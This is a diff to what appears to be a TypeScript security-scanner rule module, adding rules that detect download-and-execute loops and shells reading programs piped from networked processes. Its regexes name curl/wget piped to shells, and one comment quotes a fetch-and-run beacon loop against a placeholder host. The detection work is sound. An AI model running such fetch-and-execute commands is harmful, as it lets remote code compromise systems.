@@ -2,6 +2,7 @@ import { command, holds, pattern } from '../engine.ts'
 import type { Clause } from '../engine.ts'
 import { EXFIL_HOSTS, TRUSTED_INSTALL_HOSTS, isInternalHost, isIpLiteral, urlsIn } from '../lists.ts'
 import type { Rule } from '../types.ts'
+import { isShellLike } from './shells.ts'
 
 const SHELL_OR_INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:\/usr\/bin\/|\/bin\/|\/usr\/local\/bin\/)?(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|node|php)\b`
 /** A download handed straight to a shell or interpreter. */
@@ -14,6 +15,27 @@ const FETCH_EXEC: Clause = {
     /\beval\s+["']?\$\(\s*(?:curl|wget)\b/,
     /\bpython[\d.]*\s+-c\s+["'][^"']*(?:urllib|requests|urlopen)[^"']*\bexec\(/,
   ],
+}
+
+/** A shell loop (`while true; do ... done`, `until`, `for`) or `watch` re-running a command. */
+const LOOP = /\b(?:while|until|for)\b[^;]*;\s*do\b[\s\S]*\bdone\b|\bwatch\s+(?:-\S+\s+)*(?:-n\s*\S+\s+)?/
+
+/**
+ * Whether a shell or interpreter takes its program from stdin: no `-c`/`-e`/`-m` and no
+ * script file (`sh`, `bash -s`, `python3`, `python3 -`, `perl`), as at the end of `| sh`.
+ */
+function readsProgramFromStdin(prog: string, argv: readonly string[]): boolean {
+  const args = argv.slice(1)
+  // A shell's -c, an interpreter's -c, -e (code) or -m (module): the program is in the arguments.
+  const inline = /^(?:ba|da|z|k|a|tc|c|mk)?sh$/.test(prog) ? /^-[a-zA-Z]*c[a-zA-Z]*$/ : /^-[a-zA-Z]*[cem][a-zA-Z]*$/
+  if (args.some((a) => inline.test(a))) {
+    return false
+  }
+  if (args.includes('-s')) {
+    return true
+  }
+  const first = args.find((a) => !a.startsWith('-') || a === '-')
+  return first === undefined || first === '-'
 }
 
 const FETCH = /\b(?:curl|wget|tftp|fetch|aria2c)\b/
@@ -74,6 +96,41 @@ export const networkRules: readonly Rule[] = [
         return false
       }
       return urls.find((u) => !vetted(u))?.host ?? 'unresolved URL'
+    },
+  },
+  {
+    // Atomic Red Team T1105 / T1059.004: `while true; do curl -s http://host/s.sh | sh; sleep 60; done`.
+    // Fetching and running a script again and again is a dropper's beacon whatever the host:
+    // an internal or https source does not make it an installer.
+    id: 'download_exec_loop', category: 'suspicious_network', severity: 'high', scope: 'static',
+    description: 'A download piped into a shell or interpreter over and over (a dropper or C2 beacon loop)',
+    test: (_, c) => {
+      if (!LOOP.test(c.line) || !holds(FETCH_EXEC, c.line)) {
+        return false
+      }
+      return urlsIn(c.line)[0]?.host ?? 'unresolved URL'
+    },
+  },
+  {
+    // The same seen from the shell: its stdin is a pipe whose writer (a sibling in the
+    // pipeline) holds a TCP connection. Catches `curl ... | sh` whatever the command line
+    // says (a script file, an alias), while the download is still streaming.
+    id: 'network_pipe_to_interpreter', category: 'suspicious_network', severity: 'high', scope: 'dynamic',
+    description: 'A shell or interpreter running a program piped from a process with a network connection',
+    test: (p, c) => {
+      const from = p.stdinFrom
+      if (!from || p.stdio?.stdin?.kind !== 'pipe' || !isShellLike(c) || !readsProgramFromStdin(c.prog, p.argv)) {
+        return false
+      }
+      const remote = from.connections.find((x) => x.state !== 'LISTEN')
+      if (!remote) {
+        return false
+      }
+      const urls = urlsIn(from.argv.join(' '))
+      if (urls.length > 0 && urls.every((u) => u.scheme === 'https' && TRUSTED_INSTALL_HOSTS.test(u.hostPath))) {
+        return false
+      }
+      return `stdin from ${from.comm} connected to ${remote.remoteAddress}:${remote.remotePort}`
     },
   },
   {
